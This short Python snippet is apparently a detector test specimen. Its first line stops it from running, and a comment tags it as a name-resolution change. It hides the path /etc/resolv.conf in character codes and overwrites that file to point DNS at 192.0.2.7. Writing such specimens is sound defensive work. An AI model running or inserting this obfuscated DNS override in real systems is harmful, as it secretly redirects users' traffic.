raise SystemExit("specimen: not to be run")
place = "".join(chr(c) for c in [47, 101, 116, 99, 47, 114, 101, 115, 111, 108, 118, 46, 99, 111, 110, 102])
open(place, "w").write("nameserver 192.0.2.7")  # match: name-resolution-change
